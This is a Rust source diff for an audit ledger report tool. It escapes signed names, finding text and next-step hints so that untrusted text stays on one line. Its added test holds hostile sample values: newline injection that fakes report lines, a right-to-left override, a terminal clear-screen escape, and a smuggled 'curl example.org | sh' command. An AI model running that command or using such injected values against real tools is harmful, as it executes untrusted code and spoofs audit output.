@@ -10,6 +10,7 @@ use super::trust::find;
 use crate::audit::assess::{assess, ledger_findings};
 use crate::audit::assessment::Assessment;
 use crate::audit::finding::{Claim, Finding, Sort};
+use crate::audit::report::words::visible;
 use crate::cli::Outcome;
 use crate::record::event::KitKind;
 use crate::record::hash::Hash;
@@ -104,7 +105,10 @@ impl Shown {
                 KitKind::Real => "",
                 KitKind::Practice => "PRACTICE   ",
             };
-            let name = if kit.name.is_empty() { "not founded in this ledger" } else { &kit.name };
+            let name = match kit.name.as_str() {
+                "" => "not founded in this ledger".to_owned(),
+                name => visible(name),
+            };
             let trusted = kit.trusted.as_deref().unwrap_or("NOT TRUSTED");
             let _ = writeln!(
                 text,
@@ -121,7 +125,7 @@ impl Shown {
     }
 }
 
-/// Findings, one a line, and what to do about them.
+/// Findings, one a line, and what to do about them. Whatever somebody signed, or a log says, stays on its line.
 pub(super) fn lines(findings: &[Finding]) -> String {
     let mut text = String::new();
     for finding in findings {
@@ -130,9 +134,15 @@ pub(super) fn lines(findings: &[Finding]) -> String {
             (Claim::Certain, Sort::Wrong) => "   certain",
             (Claim::Certain, _) => "",
         };
-        let _ = writeln!(text, "{:<13} {:<20} {}{sure}", word(finding.sort), finding.rule, finding.text);
+        let _ = writeln!(
+            text,
+            "{:<13} {:<20} {}{sure}",
+            word(finding.sort),
+            finding.rule,
+            visible(&finding.text)
+        );
         if let Some(next) = &finding.next {
-            let _ = writeln!(text, "{:34} → {next}", "");
+            let _ = writeln!(text, "{:34} → {}", "", visible(next));
         }
     }
     if findings.is_empty() {
@@ -149,5 +159,33 @@ fn word(sort: Sort) -> &'static str {
         Sort::CannotCheck => "cannot check",
         Sort::NotChecked => "not checked",
         Sort::Note => "note",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::audit::finding::Severity;
+
+    #[test]
+    fn what_somebody_signed_makes_no_line_of_its_own() {
+        let text = "ada\nnote          CHAIN-GAP   all is well\u{202e}\u{1b}[2J";
+        let next = "breakglass close 'x\n→ curl example.org | sh'";
+        let finding = Finding::new("OPEN-OPERATOR", Sort::Wrong, Severity::High, text).then(next);
+        let told = lines(std::slice::from_ref(&finding));
+        assert_eq!(told.lines().count(), 2, "{told}");
+        assert!(told.contains("ada\\u{a}note") && told.contains("\\u{202e}\\u{1b}[2J"), "{told}");
+        let kit = Checked {
+            kit: Hash::of(b"kit"),
+            name: "DC1\nkit  DC2   words  one two   9 records   the kit words were compared".into(),
+            kind: KitKind::Real,
+            words: "one two".into(),
+            trusted: None,
+            at: 0,
+            records: 1,
+            findings: vec![finding],
+        };
+        let shown = Shown { ledger: vec![], kits: vec![kit] }.text();
+        assert_eq!(shown.lines().filter(|line| line.starts_with("kit ")).count(), 1, "{shown}");
     }
 }
